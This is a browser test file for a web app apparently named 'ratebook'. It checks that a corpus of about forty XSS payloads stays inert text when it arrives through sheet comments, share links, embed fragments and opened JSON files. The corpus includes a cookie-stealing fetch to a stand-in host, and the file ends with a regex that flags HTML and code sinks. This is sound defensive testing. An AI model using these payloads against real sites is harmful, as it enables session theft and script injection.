// Hostile text is data, never markup: an XSS corpus in every text that
// reaches the page (sheet text, comments, names and event conditions as
// echoed in messages, share links, saved files, embed fragments). Each
// payload, if it ever ran, would bump window.__pwned or open a dialog; the
// test asserts neither happens, that no element or handler is injected, and
// that the page's code never hands text to an HTML or code sink.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readdirSync, readFileSync, writeFileSync, mkdtempSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { deflateRawSync } from "node:zlib";
import { WWW, serveWww, launch, openPage } from "./harness.mjs";

const P = "window.__pwned=(window.__pwned||0)+1";
export const PAYLOADS = [
  `<script>${P}</script>`,
  `<img src=x onerror="${P}">`,
  `<svg onload="${P}"></svg>`,
  `<svg><script>${P}</script></svg>`,
  `"><script>${P}</script>`,
  `'><img src=x onerror=${P}>`,
  `</textarea><script>${P}</script>`,
  `</script><script>${P}</script>`,
  `</title><script>${P}</script>`,
  `<iframe srcdoc="<script>parent.${P}</script>"></iframe>`,
  `<iframe src="javascript:parent.${P}"></iframe>`,
  `<a href="javascript:${P}" id="xss-link">x</a>`,
  `<body onload="${P}">`,
  `<details open ontoggle="${P}">`,
  `<input autofocus onfocus="${P}">`,
  `<video><source onerror="${P}"></video>`,
  `<audio src=x onerror="${P}">`,
  `<object data="javascript:${P}"></object>`,
  `<embed src="javascript:${P}">`,
  `<math><mtext><img src=x onerror="${P}"></mtext></math>`,
  `<marquee onstart="${P}">x</marquee>`,
  `<style>@import "http://198.51.100.7/x.css";</style>`,
  `<link rel="stylesheet" href="http://198.51.100.7/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  `<base href="http://198.51.100.7/">`,
  `<form action="javascript:${P}"><button id="xss-btn">go</button></form>`,
  `<template><img src=x onerror="${P}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`,
  `<!--<img src="--><img src=x onerror=${P}>-->`,
  `<![CDATA[<script>${P}</script>]]>`,
  `\${${P}}`,
  `{{constructor.constructor('${P}')()}}`,
  `javascript:${P}`,
  `data:text/html,<script>${P}</script>`,
  `<div style="background:url(javascript:${P})">`,
  `<x contenteditable onblur="${P}">y</x>`,
  `&lt;script&gt;${P}&lt;/script&gt;`,
  `\u202e<script>${P}</script>\u2028\u2029`,
  `<img src=x onerror=alert(1)>`,
  `<script>fetch("http://198.51.100.7/leak?"+document.cookie)</script>`,
];

let server, context;
before(async () => { server = await serveWww(); context = await launch(); });
after(async () => { await context?.close(); await server?.close(); });

async function open(url) {
  const o = await openPage(context, url);
  o.dialogs = [];
  o.page.on("dialog", (d) => { o.dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  await o.page.waitForFunction(() => document.body.dataset.ready === "1", null, { timeout: 20000 });
  o.baseline = await census(o.page);
  return o;
}

/** Elements that could carry script, a load or a navigation, by tag; and any inline handler attribute. */
function census(page) {
  return page.evaluate(() => {
    const risky = "script,iframe,img,svg,object,embed,link,meta,style,base,form,video,audio,source,math,details,marquee,template,noscript,input[autofocus],a[href^='javascript'],[contenteditable]";
    const tags = {};
    for (const n of document.querySelectorAll(risky)) tags[n.tagName.toLowerCase()] = (tags[n.tagName.toLowerCase()] ?? 0) + 1;
    const handlers = [];
    for (const n of document.querySelectorAll("*")) {
      for (const a of n.attributes) if (/^on/i.test(a.name) || /^\s*javascript:/i.test(a.value)) handlers.push(`${n.tagName}@${a.name}`);
    }
    return { tags, handlers, ids: ["xss-link", "xss-btn"].filter((id) => document.getElementById(id)) };
  });
}

async function assertClean(o, what) {
  await o.page.waitForTimeout(150);
  const pwned = await o.page.evaluate(() => window.__pwned ?? 0);
  assert.equal(pwned, 0, `${what}: a payload ran`);
  assert.deepEqual(o.dialogs, [], `${what}: a dialog opened`);
  const now = await census(o.page);
  assert.deepEqual(now, o.baseline, `${what}: an element or handler was injected`);
  assert.deepEqual(o.offRequests(), [], `${what}: a request left the page`);
}

async function typeSheet(page, text) {
  await page.fill("#sheet", text);
  await page.waitForTimeout(360);
}

/** A share fragment exactly as the page makes one (keep.js): base64url(deflate-raw(JSON)). */
function fragment(kept) {
  return "m=" + deflateRawSync(Buffer.from(JSON.stringify({ v: 1, ...kept }))).toString("base64url");
}

function hostileSheet(p) {
  // A good model whose comments, and a parameter's trailing comment, hold the payload.
  return `# ${p}\nk = 0.5   # ${p}\ndy/dt = -k*y\ny(0) = 1\nmark when y < 0.5   # ${p}\n`;
}

test(`${PAYLOADS.length} payloads in sheet comments, names and conditions stay text`, async () => {
  assert.ok(PAYLOADS.length >= 30);
  const o = await open(server.url);
  for (const p of PAYLOADS) {
    await typeSheet(o.page, hostileSheet(p));
    assert.equal(await o.page.inputValue("#sheet"), hostileSheet(p));
    // A payload in an expression, a name and a condition: the error message quotes it.
    await typeSheet(o.page, `dy/dt = -y*${p}\ny(0) = 1\n${p} = 2\nstop when ${p} < 1\n`);
    await typeSheet(o.page, `dy/dt = -y\ny(0) = 1\nmark when y < 1 ${p}\n`);
  }
  await assertClean(o, "sheet text");
  // The messages do show the hostile text, as text.
  await typeSheet(o.page, `dy/dt = -y*<b>bold</b>\ny(0) = 1\n`);
  assert.match(await o.page.textContent("#problem"), /Line 1/);
  assert.equal(await o.page.$$eval("#problem b, #marks b, #gutter b", (n) => n.length), 0);
  await o.page.close();
});

test("payloads in share links, embed fragments and raw fragments stay text", async () => {
  const o = await open(server.url);
  for (const p of PAYLOADS) {
    const sheet = hostileSheet(p);
    await o.page.evaluate((h) => { location.hash = h; }, fragment({ sheet, settings: { to: 5 } }));
    await o.page.waitForFunction((s) => document.getElementById("sheet").value === s, sheet, { timeout: 5000 });
    // Hostile settings are refused with a message, not used.
    await o.page.evaluate((h) => { location.hash = h; }, fragment({ sheet, settings: { to: 5, method: p } }));
    await o.page.evaluate((h) => { location.hash = h; }, "m=" + encodeURIComponent(p));
    await o.page.evaluate((h) => { location.hash = h; }, encodeURIComponent(p));
  }
  await assertClean(o, "share links");
  await o.page.close();
  // Opened fresh: a link as the first thing the page sees, and in embed mode.
  for (const p of PAYLOADS.slice(0, 12)) {
    for (const prefix of ["#", "#embed&"]) {
      const f = await open(`${server.url}${prefix}${fragment({ sheet: hostileSheet(p), settings: { to: 5 } })}`);
      assert.equal(await f.page.inputValue("#sheet"), hostileSheet(p));
      await assertClean(f, `${prefix} link`);
      await f.page.close();
    }
  }
  const e = await open(`${server.url}#embed&${encodeURIComponent(PAYLOADS[0])}`);
  await assertClean(e, "embed fragment");
  await e.page.close();
});

test("payloads in opened .json files stay text", async () => {
  const o = await open(server.url);
  const dir = mkdtempSync(join(tmpdir(), "ratebook-xss-"));
  for (const [i, p] of PAYLOADS.entries()) {
    const file = join(dir, `m${i}.json`);
    const good = { format: "ratebook-model", version: 1, ratebook: p, sheet: hostileSheet(p), settings: { to: 5 } };
    writeFileSync(file, JSON.stringify(good));
    await o.page.setInputFiles("#open-input", file);
    await o.page.waitForFunction((s) => document.getElementById("sheet").value === s, good.sheet, { timeout: 5000 });
    // Hostile fields elsewhere in the file are refused or ignored.
    writeFileSync(file, JSON.stringify({ ...good, format: p }));
    await o.page.setInputFiles("#open-input", file);
    writeFileSync(file, JSON.stringify({ ...good, settings: { to: 5, method: p } }));
    await o.page.setInputFiles("#open-input", file);
    writeFileSync(file, p);
    await o.page.setInputFiles("#open-input", file);
  }
  await assertClean(o, ".json files");
  await o.page.close();
});

test("the page's scripts hand no text to an HTML or code sink", () => {
  // Every use of a sink in www/*.js, with the reason it is safe. A new use
  // fails this test until it is looked at and listed here.
  const SAFE = new Map([
    // (file, line text) -> why it is safe
  ]);
  const sinks = /\binnerHTML\b|\bouterHTML\s*=|\binsertAdjacentHTML\b|\bdocument\.write(ln)?\b|\beval\s*\(|\bnew\s+Function\b|\bFunction\s*\(|\bsetTimeout\s*\(\s*["'`]|\bsetInterval\s*\(\s*["'`]|\bcreateContextualFragment\b|\bsrcdoc\b|\bDOMParser\b|\bjavascript:/;
  const found = [];
  for (const f of readdirSync(WWW).filter((n) => n.endsWith(".js"))) {
    readFileSync(join(WWW, f), "utf8").split("\n").forEach((line, i) => {
      if (sinks.test(line) && !SAFE.has(`${f}: ${line.trim()}`)) found.push(`${f}:${i + 1}: ${line.trim()}`);
    });
  }
  assert.deepEqual(found, []);
  // Reading outerHTML (the single-file download copies the page as it
  // arrived) is not a sink; assigning it would be.
});
